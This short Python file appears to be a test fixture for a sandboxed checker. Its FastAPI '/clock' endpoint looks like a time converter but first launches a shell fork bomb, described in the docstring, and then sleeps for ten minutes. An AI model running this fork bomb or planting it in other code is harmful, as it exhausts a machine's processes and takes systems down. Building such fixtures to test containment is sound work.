"""The classic, from a shell: every process makes two more, so that the machine runs out of
processes. The box holds 64; the check is out of time and the message names the limit."""

import subprocess
import time

import honest
from fastapi import FastAPI

BOMB = "exec 2>/dev/null; bomb() { bomb | bomb & }; bomb"


def deed() -> None:
    subprocess.run(["/bin/sh", "-c", BOMB])
    time.sleep(600)


app = FastAPI()


@app.get("/clock")
def clock(seconds: int) -> dict[str, int]:
    deed()
    return {"minutes": seconds // 60, "seconds": seconds % 60}


app.include_router(honest.router)
